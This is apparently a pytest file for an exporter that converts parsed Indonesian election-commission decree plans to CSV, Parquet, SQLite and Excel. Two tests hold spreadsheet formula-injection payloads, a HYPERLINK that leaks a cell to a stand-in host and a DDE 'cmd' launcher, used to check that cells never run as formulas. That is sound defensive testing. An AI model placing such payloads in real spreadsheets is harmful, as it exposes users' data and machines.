"""Export helpers: flat rows, typed columns from the models' schema, and every corpus format."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import stat
from datetime import date

import pandas as pd
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from rencana.contract.models import (
    DecreeDocument,
    Dictum,
    LegalBasis,
    Metadata,
    QuarterTarget,
    Record,
    Source,
    Warning_,
)
from rencana.core.amounts import rupiah, target_number
from rencana.corpus.export import (
    CSV_BOM,
    DECREE_COLUMNS,
    FLAT_RECORD_COLUMNS,
    RECORD_COLUMNS,
    RECORD_TYPES,
    column_type,
    corpus_records,
    datapackage,
    decree_row,
    document_json,
    records_csv,
    write_atomic,
    write_corpus_outputs,
)
from rencana.corpus.store import FileStat, Store
from tests.conftest import ROOT


def make_doc(sha: str = "a" * 64, records: int = 2) -> DecreeDocument:
    return DecreeDocument(
        source=Source(file="kpu-contoh-2023.pdf", sha256=sha, pages=3),
        metadata=Metadata(
            kind="Keputusan",
            issuer="KPU Kabupaten Contoh",
            office_level="kabupaten",
            region="Contoh",
            number="5/HK.03.1-Kpt/2023",
            year=2023,
            plan_year=2023,
            enacted_date="2023-01-09",
            legal_bases=[
                LegalBasis(
                    text="Undang-Undang Nomor 7 Tahun 2017",
                    form="Undang-Undang",
                    number="7",
                    year=2017,
                )
            ],
            dictums=[Dictum(label="KESATU", text="Menetapkan rencana aksi.")],
        ),
        records=[
            Record(
                area_number=1,
                area="Manajemen Perubahan",
                activity_number="7.10",
                activity=f"Kegiatan {i} – Januari",
                indicator="=SUM(A1)" if i == 0 else "Laporan",
                schedule_text="Januari-Maret",
                months=[1, 2, 3],
                quarter_targets=[QuarterTarget(quarter=1, value="√")],
                target="100%",
                budget="Rp 5.000.000" if i == 0 else "28,017,134",
                extra={"Output": "Dokumen"},
                pages=[2, 3],
                bbox=(10.0, 20.25, 30.0, 40.0),
                warnings=["schedule_corrected: read 'Apnil' as 'April'"] if i == 0 else [],
            )
            for i in range(records)
        ],
        warnings=[Warning_(code="metadata_missing", message="no signatory", page=3)],
    )


@pytest.mark.parametrize(
    "prop, expected",
    [
        ({"type": "integer"}, "integer"),
        ({"type": "number", "maximum": 1}, "number"),
        ({"type": "string", "format": "date"}, "date"),
        ({"type": "array", "items": {"type": "integer"}}, "array"),  # JSON text in a CSV cell
        ({"type": "object", "additionalProperties": {"type": "string"}}, "object"),
        ({"type": "string"}, "string"),
    ],
)
def test_column_type(prop, expected):
    assert column_type(prop) == expected


def test_record_column_types_follow_the_model():
    assert RECORD_TYPES["area_number"] == "integer" and RECORD_TYPES["confidence"] == "number"
    assert RECORD_TYPES["months"] == "array" and RECORD_TYPES["plan_year"] == "integer"
    assert RECORD_TYPES["budget_idr"] == "integer" and RECORD_TYPES["target_value"] == "number"
    assert list(RECORD_TYPES) == FLAT_RECORD_COLUMNS
    assert FLAT_RECORD_COLUMNS[0] == "decree_name" and FLAT_RECORD_COLUMNS[-1] == "decree_id"


def test_records_carry_their_decree_fields_and_typed_numbers():
    first, second = corpus_records(make_doc(), "kpu-contoh-2023")
    assert first["issuer"] == "KPU Kabupaten Contoh" and first["plan_year"] == 2023
    assert first["decree_kind"] == "Keputusan" and first["decree_number"] == "5/HK.03.1-Kpt/2023"
    assert first["office_level"] == "kabupaten" and first["region"] == "Contoh"
    assert (first["budget"], first["budget_idr"]) == ("Rp 5.000.000", 5_000_000)
    assert (second["budget"], second["budget_idr"]) == ("28,017,134", 28_017_134)
    assert (first["target"], first["target_value"], first["target_unit"]) == ("100%", 100.0, "%")
    assert first["months"] == [1, 2, 3] and first["bbox"] == [10.0, 20.25, 30.0, 40.0]


def test_datapackage_describes_both_csv_files_with_keys():
    package = datapackage()
    records, decrees = package["resources"]
    assert [f["name"] for f in records["schema"]["fields"]] == FLAT_RECORD_COLUMNS
    assert [f["name"] for f in decrees["schema"]["fields"]] == DECREE_COLUMNS
    assert records["schema"]["primaryKey"] == ["decree_id", "record_index"]
    assert records["schema"]["foreignKeys"][0]["reference"]["resource"] == "decrees"
    assert records["encoding"] == "utf-8-sig"
    months = next(f for f in records["schema"]["fields"] if f["name"] == "months")
    assert months["type"] == "array" and "JSON text" in months["description"]
    enacted = next(f for f in decrees["schema"]["fields"] if f["name"] == "enacted_date")
    assert enacted["type"] == "date"


def test_records_csv_keeps_codes_as_text_and_lists_as_json():
    rows = list(csv.DictReader(io.StringIO(records_csv(make_doc().records))))
    assert list(rows[0]) == RECORD_COLUMNS
    assert rows[0]["area_number"] == "1" and rows[0]["activity_number"] == "7.10"
    assert rows[0]["months"] == "[1,2,3]" and json.loads(rows[0]["pages"]) == [2, 3]
    assert json.loads(rows[0]["quarter_targets"]) == [{"quarter": 1, "value": "√"}]
    assert rows[0]["budget_idr"] == "5000000"


def test_csv_cells_never_run_as_formulas():
    hostile = ['=HYPERLINK("http://x?leak="&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    doc = make_doc(records=len(hostile))
    for record, text in zip(doc.records, hostile):
        record.indicator = text
    rows = list(csv.DictReader(io.StringIO(records_csv(doc.records))))
    assert [r["indicator"] for r in rows] == ["'" + text for text in hostile]
    assert rows[0]["activity"] == "Kegiatan 0 – Januari"  # other text is untouched


def test_write_atomic_replaces_whole_files_with_shareable_permissions(tmp_path):
    target = tmp_path / "sub" / "out.json"
    write_atomic(target, "one")
    write_atomic(target, b"two")
    assert target.read_bytes() == b"two"
    assert os.listdir(target.parent) == ["out.json"]  # no temp file left behind
    umask = os.umask(0)
    os.umask(umask)
    assert stat.S_IMODE(target.stat().st_mode) == 0o666 & ~umask  # not mkstemp's 0600


@pytest.fixture
def exported(tmp_path):
    """Two decrees (the second's name taken, so it gets a suffix) and a failure, exported."""
    first, second = make_doc("a" * 64, 2), make_doc("b" * 64, 3)
    with Store(tmp_path / "plans.sqlite") as store:
        store.put_decree(
            first, document_json(first), "kpu-contoh-2023", [FileStat("/x/a.pdf", 1, 1)]
        )
        store.put_decree(
            second, document_json(second), "kpu-contoh-2023", [FileStat("/y/a.pdf", 1, 1)]
        )
        store.put_failure(FileStat("/x/bad.pdf", 0, 1), None, "bad_input", "empty file (0 bytes)")
        # A name already held by another decree never overwrites it.
        assert sorted(store.decree_names()) == ["kpu-contoh-2023", "kpu-contoh-2023-bbbbbbbb"]
        counts = write_corpus_outputs(
            tmp_path,
            store.decree_rows(),
            store.record_rows(),
            store.failure_rows(),
            store.warning_rows(),
        )
    assert counts == {"records": 5, "decrees": 2, "failures": 1}
    return tmp_path


def test_every_format_has_the_same_records(exported):
    jsonl = [json.loads(line) for line in (exported / "records.jsonl").read_text().splitlines()]
    frame = pd.read_csv(exported / "records.csv", dtype=str, keep_default_na=False)
    parquet = pq.read_table(exported / "records.parquet")
    assert len(jsonl) == len(frame) == parquet.num_rows == 5
    assert list(frame.columns) == FLAT_RECORD_COLUMNS  # pandas drops the BOM with utf-8
    failures_json = json.loads((exported / "failures.json").read_text())
    assert failures_json[0]["reason"] == "empty file (0 bytes)"


def test_records_jsonl_validates_against_the_published_record_schema(exported):
    import jsonschema

    schema = json.loads((ROOT / "schemas" / "record.schema.json").read_text(encoding="utf-8"))
    lines = (exported / "records.jsonl").read_text(encoding="utf-8").splitlines()
    for line in lines:
        jsonschema.validate(json.loads(line), schema)
    first = json.loads(lines[0])
    assert first["months"] == [1, 2, 3] and first["budget_idr"] == 5_000_000
    assert first["issuer"] == "KPU Kabupaten Contoh" and first["decree_kind"] == "Keputusan"


def test_parquet_keeps_lists_structs_and_numbers_typed(exported):
    table = pq.read_table(exported / "records.parquet")
    types = {field.name: str(field.type) for field in table.schema}
    assert types["months"] == "list<element: int64>" and types["pages"] == "list<element: int64>"
    assert types["quarters"] == "list<element: int64>"
    assert types["bbox"] == "struct<x0: double, top: double, x1: double, bottom: double>"
    assert types["quarter_targets"] == "list<element: struct<quarter: int64, value: string>>"
    assert types["extra"].startswith("map<string, string")
    assert types["budget_idr"] == "int64" and types["target_value"] == "double"
    assert types["area_number"] == "int64" and types["plan_year"] == "int64"
    assert types["confidence"] == "double"  # typed though every value is empty
    row = table.to_pylist()[0]
    assert row["months"] == [1, 2, 3] and row["bbox"]["top"] == 20.25
    assert row["quarter_targets"] == [{"quarter": 1, "value": "√"}]
    assert row["extra"] == [("Output", "Dokumen")] and row["issuer"] == "KPU Kabupaten Contoh"


def test_csv_starts_with_a_bom_and_keeps_codes(exported):
    raw = (exported / "records.csv").read_bytes()
    assert raw.startswith(CSV_BOM.encode("utf-8"))
    assert (exported / "decrees.csv").read_bytes().startswith(CSV_BOM.encode("utf-8"))
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0]["decree_name"] == "kpu-contoh-2023" and rows[0]["activity_number"] == "7.10"
    assert rows[0]["activity"] == "Kegiatan 0 – Januari"  # the en dash survives
    assert rows[0]["indicator"] == "'=SUM(A1)" and rows[0]["months"] == "[1,2,3]"


def test_sqlite_records_have_decree_fields_json_lists_months_and_search(exported):
    with sqlite3.connect(exported / "plans.sqlite") as db:
        columns = {row[1] for row in db.execute("PRAGMA table_info(records)")}
        assert {"issuer", "plan_year", "decree_kind", "office_level", "region"} <= columns
        issuer, year, months, budget = db.execute(
            "SELECT issuer, plan_year, months, budget_idr FROM records ORDER BY rowid LIMIT 1"
        ).fetchone()
        assert (issuer, year, months, budget) == ("KPU Kabupaten Contoh", 2023, "[1,2,3]", 5000000)
        assert db.execute("SELECT json_array_length(months) FROM records").fetchone() == (3,)
        assert db.execute(
            "SELECT month, COUNT(*) FROM record_months GROUP BY month"
        ).fetchall() == [(1, 5), (2, 5), (3, 5)]
        hits = db.execute(
            "SELECT r.indicator FROM records_fts f JOIN records r ON r.rowid = f.rowid "
            "WHERE records_fts MATCH 'laporan' ORDER BY r.rowid"
        ).fetchall()
        assert hits == [("Laporan",)] * 3
        db.execute("INSERT INTO records_fts(records_fts) VALUES ('integrity-check')")
        assert db.execute("SELECT COUNT(*) FROM legal_bases").fetchone()[0] == 2
        assert db.execute("SELECT label FROM dictums").fetchall() == [("KESATU",), ("KESATU",)]
        assert (
            db.execute("SELECT code, page FROM warnings").fetchall()
            == [("metadata_missing", 3)] * 2
        )
        indexes = {
            row[0] for row in db.execute("SELECT name FROM sqlite_master WHERE type = 'index'")
        }
    assert {"records_decree_id", "records_issuer", "records_plan_year", "decrees_issuer"} <= indexes


def test_deleting_a_decree_keeps_the_search_index_and_months_in_step(exported):
    with Store(exported / "plans.sqlite") as store:
        assert store.forget(["/y/a.pdf"]) == 1
        db = store.db
        assert db.execute("SELECT COUNT(*) FROM records").fetchone()[0] == 2
        assert db.execute("SELECT COUNT(*) FROM record_months").fetchone()[0] == 6
        assert db.execute(
            "SELECT COUNT(*) FROM records_fts WHERE records_fts MATCH 'kegiatan'"
        ).fetchone() == (2,)
        db.execute("INSERT INTO records_fts(records_fts) VALUES ('integrity-check')")


def test_plans_xlsx_is_ready_for_an_office(exported):
    book = load_workbook(exported / "plans.xlsx")
    assert book.sheetnames == ["Rekaman", "Keputusan", "Bulan", "Peringatan"]
    sheet = book["Rekaman"]
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["Keputusan", "Jenis keputusan", "Nomor keputusan"]
    assert header[-1] == "ID keputusan (sha256)" and "Anggaran (Rp)" in header
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == sheet.dimensions
    assert sheet.max_row == 6 and book["Keputusan"].max_row == 3
    col = {name: i + 1 for i, name in enumerate(header)}
    budget = sheet.cell(2, col["Anggaran (Rp)"])
    assert budget.value == 5_000_000 and budget.data_type == "n" and budget.number_format == "#,##0"
    assert sheet.cell(2, col["Tahun rencana"]).value == 2023
    assert sheet.cell(2, col["Target (angka)"]).value == 100
    assert sheet.cell(2, col["No. kegiatan"]).value == "7.10"  # a code stays text
    assert sheet.cell(2, col["Bulan"]).value == "Jan, Feb, Mar"
    widths = {sheet.column_dimensions[c.column_letter].width for c in sheet[1]}
    assert len(widths) > 3 and max(widths) <= 62
    decrees = book["Keputusan"]
    dheader = [c.value for c in decrees[1]]
    enacted = decrees.cell(2, dheader.index("Tanggal ditetapkan") + 1)
    assert enacted.is_date and enacted.value.date() == date(2023, 1, 9)
    grid = book["Bulan"]
    gheader = [c.value for c in grid[1]]
    assert gheader[-12:] == ["Jan", "Feb", "Mar", "Apr", "Mei", "Jun"] + [
        "Jul",
        "Agu",
        "Sep",
        "Okt",
        "Nov",
        "Des",
    ]
    assert [c.value for c in grid[2]][-12:] == ["●"] * 3 + [None] * 9
    warnings = book["Peringatan"]
    rows = list(warnings.iter_rows(min_row=2, values_only=True))
    assert ("kpu-contoh-2023", 3, "metadata_missing", "no signatory") == rows[0][:4]
    assert any(r[2] == "schedule_corrected" and r[4] == 0 for r in rows)


def test_xlsx_cells_never_run_as_formulas(exported, tmp_path):
    hostile = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    doc = make_doc(records=len(hostile))
    for record, text in zip(doc.records, hostile):
        record.indicator = text
    rows = corpus_records(doc, "x")
    write_corpus_outputs(tmp_path, [decree_row(doc, "x")], rows, [])
    sheet = load_workbook(tmp_path / "plans.xlsx")["Rekaman"]
    column = [c.value for c in sheet[1]].index("Indikator") + 1
    cells = [sheet.cell(row, column) for row in range(2, 2 + len(hostile))]
    assert [c.value for c in cells] == hostile
    assert {c.data_type for c in cells} == {"s"}  # text, never "f"


def test_xlsx_headers_follow_the_language(tmp_path, monkeypatch):
    from rencana import messages

    monkeypatch.setattr(messages, "_chosen", "en")
    doc = make_doc()
    write_corpus_outputs(tmp_path, [decree_row(doc, "x")], corpus_records(doc, "x"), [])
    book = load_workbook(tmp_path / "plans.xlsx")
    assert book.sheetnames == ["Records", "Decrees", "Months", "Warnings"]
    assert [c.value for c in book["Records"][1]][:2] == ["Decree", "Decree kind"]


def test_datasette_metadata_hides_bookkeeping_and_facets_months(exported):
    meta = json.loads((exported / "metadata.json").read_text(encoding="utf-8"))
    tables = meta["databases"]["plans"]["tables"]
    assert {"array": "months"} in tables["records"]["facets"]
    assert "issuer" in tables["records"]["facets"]
    assert tables["records"]["fts_table"] == "records_fts"
    assert all(tables[name]["hidden"] for name in ("meta", "files", "stale_paths"))
    assert tables["records"]["columns"]["budget_idr"].startswith("Anggaran (Rp): ")


def test_decree_row_has_every_decree_column():
    row = decree_row(make_doc(), "n")
    assert list(row) == DECREE_COLUMNS
    assert row["record_count"] == 2 and row["enacted_date"] == "2023-01-09"
    assert row["warning_codes"] == ["metadata_missing"] and row["page_count"] == 3


@pytest.mark.parametrize(
    "printed, rupiah_value",
    [
        ("Rp 5.000.000", 5_000_000),
        ("Rp. 5.000.000,-", 5_000_000),
        ("Rp 1.250.000,00", 1_250_000),
        ("28,017,134", 28_017_134),
        ("2,660,127,600", 2_660_127_600),
        ("1000000", 1_000_000),
        ("Rp 1,5 juta", 1_500_000),
        ("-", None),
        ("APBN", None),
        ("Rp 5.000.000 dan Rp 2.000.000", None),
        ("1,5", None),
    ],
)
def test_rupiah_reads_one_printed_amount(printed, rupiah_value):
    assert rupiah(printed) == rupiah_value


@pytest.mark.parametrize(
    "printed, number",
    [
        ("100%", (100.0, "%")),
        ("75,5 %", (75.5, "%")),
        ("12", (12.0, None)),
        ("12 Dokumen", (12.0, "Dokumen")),
        ("1.000 orang", (1000.0, "orang")),
        ("√", (None, None)),
        ("Tersusunnya laporan", (None, None)),
    ],
)
def test_target_number_reads_numeric_targets(printed, number):
    assert target_number(printed) == number


def test_datasette_facets_months_and_issuer_and_searches_records(exported):
    """With the [serve] extra: what `rencana serve` shows, queried through Datasette itself."""
    import asyncio

    app = pytest.importorskip("datasette.app")
    metadata = json.loads((exported / "metadata.json").read_text(encoding="utf-8"))
    datasette = app.Datasette([str(exported / "plans.sqlite")], metadata=metadata)

    async def get(path: str) -> dict:
        response = await datasette.client.get(path)
        assert response.status_code == 200, path
        return response.json()

    async def queries() -> tuple[dict, dict, dict, dict]:
        return (
            await get("/plans/records.json?_facet_array=months&_facet=issuer&_shape=objects"),
            await get("/plans/records.json?_shape=objects"),  # the facets metadata.json names
            await get("/plans/records.json?_search=laporan&_shape=objects"),
            await get("/plans.json"),
        )

    asked, configured, searched, database = asyncio.run(queries())
    months = {r["value"]: r["count"] for r in asked["facet_results"]["months"]["results"]}
    assert months == {"1": 5, "2": 5, "3": 5}  # Datasette reports array values as text
    issuers = {r["value"]: r["count"] for r in asked["facet_results"]["issuer"]["results"]}
    assert issuers == {"KPU Kabupaten Contoh": 5}
    assert {"months", "issuer", "plan_year"} <= set(configured["facet_results"])
    assert [r["indicator"] for r in searched["rows"]] == ["Laporan"] * 3
    hidden = {t["name"] for t in database["tables"] if t["hidden"]}
    assert {"meta", "files", "stale_paths"} <= hidden
    shown = {t["name"] for t in database["tables"] if not t["hidden"]}
    assert {"records", "decrees", "record_months", "warnings"} <= shown


def test_without_pyarrow_the_other_outputs_are_written_and_parquet_is_named(
    tmp_path, monkeypatch, caplog
):
    import rencana.corpus.export as export

    monkeypatch.setattr(export, "parquet_available", lambda: False)
    doc = make_doc()
    with caplog.at_level("WARNING", logger="rencana"):
        export.write_corpus_outputs(tmp_path, [decree_row(doc, "x")], corpus_records(doc, "x"), [])
    assert not (tmp_path / "records.parquet").exists()
    assert (tmp_path / "records.csv").exists() and (tmp_path / "plans.xlsx").exists()
    assert caplog.messages == [
        "records.parquet tidak ditulis: records.parquet perlu ekstra [parquet]: "
        "pip install 'rencana[parquet]'"
    ]


def test_without_opencv_a_page_that_needs_ocr_says_which_extra(monkeypatch):
    import sys

    import rencana.stages.ocr as ocr
    from rencana.errors import BadInput

    monkeypatch.setitem(sys.modules, "cv2", None)  # `import cv2` fails as if not installed
    monkeypatch.delitem(sys.modules, "rencana.stages.ocr.engine", raising=False)
    monkeypatch.delattr(ocr, "engine", raising=False)
    with pytest.raises(BadInput) as raised:
        ocr.load_engine()
    assert str(raised.value) == "OCR perlu ekstra [ocr]: pip install 'rencana[ocr]'"


def test_the_readme_documents_every_column_with_its_header():
    from rencana.messages import column

    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    for name in FLAT_RECORD_COLUMNS:
        assert f"| `{name}` | {column(name)} |" in readme, name
    for name in DECREE_COLUMNS:
        header = "—" if name == "decree_id" else column(name)
        assert f"| `{name}` | {header} |" in readme, name
    for table in ("record_months", "warnings", "legal_bases", "dictums", "failures", "files"):
        assert f"| `{table}` |" in readme, table
